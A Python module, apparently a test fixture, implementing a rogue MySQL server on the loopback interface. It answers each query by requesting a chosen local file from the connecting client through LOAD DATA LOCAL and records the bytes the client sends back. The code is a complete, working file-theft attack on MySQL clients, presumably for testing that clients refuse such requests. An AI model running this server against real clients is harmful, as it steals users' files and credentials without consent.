"""A MySQL server that answers each statement by asking the client for one of its own files, as LOAD DATA LOCAL does."""

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass

GREETING = (
    b"\x0a5.5.5-10.11.8-MariaDB\0"
    + struct.pack("<I", 7)
    + b"saltsalt\0"
    + struct.pack("<HBHHB", 0xFFFF & ~0x0800, 45, 2, 0x0008, 21)  # every capability but TLS; plugins name their way in
    + bytes(10)
    + b"saltsaltsalt\0mysql_native_password\0"
)
OK = b"\0\0\0\2\0\0\0"
QUERY, QUIT = 3, 1


@dataclass
class Rogue:
    """The server; `taken` is what it was sent of the client's files."""

    port: int
    path: str
    asked: int = 0
    taken: bytes = b""


@contextmanager
def rogue_server(path: str) -> Iterator[Rogue]:
    """Serve on a free port of the loopback interface, after the file at `path`."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        rogue = Rogue(listener.getsockname()[1], path)

        def run() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = listener.accept()
                    threading.Thread(target=_talk, args=[connection, rogue], daemon=True).start()

        threading.Thread(target=run, daemon=True).start()
        yield rogue
        listener.shutdown(socket.SHUT_RDWR)


def _talk(connection: socket.socket, rogue: Rogue) -> None:
    with connection, suppress(OSError, EOFError):
        _send(connection, 0, GREETING)
        number, _ = _receive(connection)
        _send(connection, number + 1, OK)
        while True:
            number, packet = _receive(connection)
            if packet[0] == QUIT:
                return
            if packet[0] == QUERY and not packet[1:].startswith((b"SET ", b"/*!40100 SET")):
                rogue.asked += 1
                _send(connection, number + 1, b"\xfb" + rogue.path.encode())
                while True:
                    number, content = _receive(connection)
                    if content in (b"", bytes([QUIT])):
                        break
                    rogue.taken += content
            _send(connection, number + 1, OK)


def _send(connection: socket.socket, number: int, packet: bytes) -> None:
    connection.sendall(struct.pack("<I", len(packet))[:3] + bytes([number % 256]) + packet)


def _receive(connection: socket.socket) -> tuple[int, bytes]:
    head = _exactly(connection, 4)
    return head[3], _exactly(connection, int.from_bytes(head[:3], "little"))


def _exactly(connection: socket.socket, length: int) -> bytes:
    data = b""
    while len(data) < length:
        if not (part := connection.recv(length - len(data))):
            raise EOFError
        data += part
    return data
